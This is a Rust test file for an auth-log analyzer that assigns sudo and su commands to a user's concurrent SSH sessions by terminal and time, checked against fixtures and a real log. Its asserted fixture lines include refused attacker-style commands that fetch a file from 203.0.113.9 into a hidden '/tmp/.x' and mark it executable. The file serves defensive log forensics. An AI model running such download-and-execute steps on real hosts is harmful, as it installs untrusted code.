//! Which of a user's open sessions a sudo/su command or a refused sudo
//! belongs to: the terminal the line names, then the line's time, and the
//! newest only when nothing tells them apart (counted in `commands_guessed`).
//!
//! The fixtures (`logs/testdata/two-terminals.log`, `out-of-order.log`) are
//! written in the exact line forms of the shared data's `elastic/auth.log`
//! (sshd, sudo, logind) and of `logs/testdata/unseen` (sudo refusals, su);
//! the last test runs the rule on that real log itself.

use std::path::PathBuf;

use bfp_logs::analyze::{AnalyzerConfig, Observation, ParseStats, RecordKind};

use crate::support::{analyze_file, real_dir, REFERENCE};

fn config() -> AnalyzerConfig {
    AnalyzerConfig { reference_time: Some(REFERENCE), ..AnalyzerConfig::default() }
}

fn analyze(name: &str) -> (Vec<Observation>, ParseStats) {
    analyze_file(&PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("testdata").join(name), config())
}

/// The commands of the session keyed by sshd pid `pid` (the first one, in log order).
fn commands_of<'a>(obs: &'a [Observation], pid: &str) -> (&'a Observation, Vec<&'a str>) {
    let s = obs
        .iter()
        .find(|o| o.kind == RecordKind::Session && o.session.as_ref().unwrap().session_id.as_deref() == Some(pid))
        .unwrap_or_else(|| panic!("no session of pid {pid}"));
    (s, s.commands.iter().map(String::as_str).collect())
}

fn tty(o: &Observation) -> Option<&str> {
    o.session.as_ref().unwrap().tty.as_deref()
}

#[test]
fn two_sessions_of_one_user_on_two_terminals_keep_their_own_commands() {
    let (obs, stats) = analyze("two-terminals.log");
    // alice logs in twice (sshd 2001 at 09:00, 2050 at 09:05) and works in both at once:
    // pts/0 administers, pts/1 is refused and then su's. Before the terminal rule every
    // line after 09:05 went to 2050, the newest.
    let (first, first_commands) = commands_of(&obs, "2001");
    assert_eq!(first_commands, ["/usr/bin/apt-get update", "/usr/bin/apt-get upgrade", "/bin/systemctl restart nginx"]);
    assert_eq!(tty(first), Some("pts/0"), "learnt from its first sudo, while it was alice's only session");
    let (second, second_commands) = commands_of(&obs, "2050");
    assert_eq!(
        second_commands,
        [
            "sudo(denied: command not allowed) /usr/sbin/useradd -m svc",
            "sudo(denied: 3 incorrect password attempts) /bin/bash",
            "sudo(denied: command not allowed) /bin/chmod +x /tmp/.x",
            "su root"
        ]
    );
    assert_eq!(tty(second), Some("pts/1"));
    assert_eq!(second.fingerprint.risky_commands, Some(1), "chmod +x");
    assert_eq!(first.fingerprint.risky_commands, Some(0));
    // `grep -c 'COMMAND=' two-terminals.log` = 6, of which 1 is "3 incorrect password
    // attempts" (three failures, and a refused `/bin/bash` in the session of its
    // terminal), plus su's one PAM session line by alice; every one names its terminal.
    assert_eq!(stats.commands, 6 + 1);
    assert_eq!(stats.failed_logins, 3);
    assert_eq!((stats.commands_by_tty, stats.commands_guessed, stats.commands_outside_sessions), (7, 0, 0));
    // `grep -cE 'not allowed|NOT in sudoers|incorrect password'` = 3.
    assert_eq!(stats.privilege_refusals, 3);
}

#[test]
fn lines_out_of_time_order_go_to_the_session_open_at_their_time() {
    let (obs, stats) = analyze("out-of-order.log");
    // sshd 2001 logs in at 09:00, 2050 at 09:30; the sudo lines of 09:10 and 09:12 arrive
    // after 2050's login (a late file): only 2001 was open then. The 09:12 refusal names no
    // terminal (`TTY=unknown`) and still reaches 2001 by its time.
    let (first, first_commands) = commands_of(&obs, "2001");
    assert_eq!(
        first_commands,
        [
            "/usr/bin/apt-get update",
            "sudo(denied: user NOT in sudoers) /usr/bin/passwd root",
            "/bin/systemctl restart nginx"
        ]
    );
    assert_eq!(tty(first), Some("pts/0"));
    // pts/1 at 09:35: 2001 is on pts/0, so the other session open then, whose terminal
    // was not known, is on pts/1. The 09:45 line has no terminal and both were open:
    // nothing tells them apart, so it goes to the newest and is counted as a guess.
    let (second, second_commands) = commands_of(&obs, "2050");
    assert_eq!(
        second_commands,
        ["sudo(denied: command not allowed) /usr/bin/wget http://203.0.113.9/x -O /tmp/.x", "/usr/bin/id"]
    );
    assert_eq!(tty(second), Some("pts/1"));
    assert_eq!((stats.commands, stats.commands_by_tty, stats.commands_guessed), (5, 3, 1));
    assert_eq!(stats.privilege_refusals, 2);
}

#[test]
fn elastic_host_two_concurrent_sessions_of_ubuntu() {
    let (obs, stats) = analyze_file(&real_dir().join("elastic/auth.log"), config());
    // Apr 10: ubuntu logs in with sshd[22761] at 10:10:00 (line 5786) and again with
    // sshd[23132] at 10:53:51 (line 5825, closed 12:59:48 at line 5917); 22761 closes at
    // 21:53:52 (line 5968). Before 10:53:51 every sudo line says TTY=pts/0 (22761, alone:
    // `awk 'NR>5788 && NR<5825' auth.log | grep -c 'ubuntu : TTY=pts/0'` = 10); the first
    // TTY=pts/1 comes after 23132's login. So pts/0 is 22761's terminal and pts/1 23132's:
    //   `awk 'NR>=5786 && NR<=5968' auth.log | grep -cE 'sudo: +ubuntu : TTY=pts/0 .*COMMAND=|su\[[0-9]+\]: pam_unix\(su:session\): session opened for user [^ ]+ by ubuntu'` = 35
    //   (33 sudo and 2 su, whose own `+ /dev/pts/0 root:root` line names the terminal);
    //   `awk 'NR>=5825 && NR<=5917' auth.log | grep -c 'ubuntu : TTY=pts/1'` = 4.
    // Before the terminal rule, 22761 had 12 and 23132 (the newest) 27.
    let (older, older_commands) = commands_of(&obs, "22761");
    assert_eq!(older_commands.len(), 35, "{older_commands:?}");
    assert_eq!(tty(older), Some("pts/0"));
    let newer = obs
        .iter()
        .find(|o| {
            o.kind == RecordKind::Session
                && o.session.as_ref().unwrap().session_id.as_deref() == Some("23132")
                && o.commands.iter().any(|c| c.contains("/var/log/audit/audit.log"))
        })
        .expect("the Apr 10 session of pid 23132 (the pid was used on Mar 28 too)");
    assert_eq!(newer.commands.len(), 4, "{:?}", newer.commands);
    assert!(newer.commands.iter().all(|c| c.contains("filebeat.yml") || c.contains("audit.log")));
    assert_eq!(tty(newer), Some("pts/1"));
    // Commands made while two sessions of their user were open (sshd pid open from `Accepted`
    // to its `session closed`):
    //   awk 'match($0, /sshd\[[0-9]+\]: Accepted [a-z-]+ for [^ ]+ /) { split(substr($0,RSTART,RLENGTH), a, " ");
    //          owner[a[1]]=a[5]; open[a[5]]++; next }
    //        match($0, /sshd\[[0-9]+\]: pam_unix\(sshd:session\): session closed for user [^ ]+/) {
    //          split(substr($0,RSTART,RLENGTH), a, " "); if (a[1] in owner) { open[owner[a[1]]]--; delete owner[a[1]] }; next }
    //        match($0, /sudo: +[^ ]+ : TTY=[^ ]+ .*COMMAND=|su\[[0-9]+\]: pam_unix\(su:session\): session opened for user [^ ]+ by [a-z][^(]*/) {
    //          if ($0 ~ /sudo:/) { split($0, b, "sudo: +"); split(b[2], c, " "); u=c[1] }
    //          else { match($0, / by [a-z][^(]*/); u=substr($0, RSTART+4, RLENGTH-4) }
    //          if (open[u] >= 2) n++ } END { print n+0 }' auth.log
    // = 27: the 22 + 4 sudo lines and the 11:43:44 su above, each placed by its terminal.
    // So none was a guess. And every command in a session was placed by its terminal: all
    // sudo command lines name one (`grep -c 'COMMAND='` = `grep -c 'TTY=pts/'` = 186) and so
    // do the 9 su's own lines (`grep -c 'su\[[0-9]*\]: + /dev/pts/'` = 9).
    assert_eq!(stats.commands_guessed, 0);
    assert_eq!(stats.commands_by_tty, stats.commands);
}
